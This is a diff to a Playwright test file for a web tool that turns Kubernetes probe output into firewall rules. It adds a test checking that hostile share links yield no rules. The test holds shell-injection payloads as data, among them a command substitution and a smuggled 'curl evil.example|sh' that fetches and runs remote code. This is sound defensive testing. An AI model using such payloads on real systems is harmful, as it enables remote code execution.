@@ -136,7 +136,10 @@ test('an oversized file is refused with a clear message', async ({ page }) => {
     mimeType: 'text/plain',
     buffer: Buffer.alloc(17 * 1024 * 1024, '1\n'),
   });
-  await expect(page.locator('#results .error')).toContainText('limit is 16 MB');
+  // Exact sizes: a file 10 bytes over once read "16.0 MB; the limit is 16 MB".
+  await expect(page.locator('#results .error')).toContainText(
+    '17,825,792 bytes; the limit is 16,777,216 (16 MiB)',
+  );
 });
 
 test('a file can be opened instead of pasted', async ({ page }) => {
@@ -327,4 +330,26 @@ test('/reach/ regenerates the probe for the options and offers it', async ({ pag
     }).trimEnd(),
   );
   await expect(page).toHaveURL(/cp=192\.0\.2\.10/);
+});
+
+test('a hostile share link with probe output shows no command carrying its payload', async ({
+  page,
+}) => {
+  const { encodeFragment } = await import('../../src/checker/share.ts');
+  const line = (src: string) =>
+    `ck8s-reach v1 from=worker src=${src} to=10.0.0.10 role=control-plane proto=tcp port=10250 result=timeout ms=3001 service=kubelet`;
+  const payloads = ["x'$(touch${IFS}pwned)'", '10.0.0.20;curl${IFS}evil.example|sh;#'];
+  for (const tool of ['firewalld', 'ufw', 'nftables', 'iptables'] as const) {
+    const input = [...payloads.map(line), line('10.0.0.20')].join('\n');
+    await page.goto('about:blank'); // a fresh load each time, as a link opened from a chat is
+    await page.goto(`/check/${encodeFragment({ input, node: {}, tool })}`);
+    await expect(page.locator('#results h2')).toHaveText('Reachability');
+    // The one valid line gets its rule; the hostile ones are listed as unrecognised, with no rule.
+    await expect(page.locator('#reach-problems li.v-blocked')).toHaveCount(1);
+    await expect(page.locator('#reach-problems li.v-blocked')).toContainText('10.0.0.20');
+    await expect(page.locator('#results')).toContainText('src=: ');
+    await expect(page.locator('#results')).toContainText('no rule offered');
+    for (const code of await page.locator('#results pre code').allTextContents())
+      expect(code, tool).not.toMatch(/touch|curl|pwned|evil|\$\(|;/);
+  }
 });
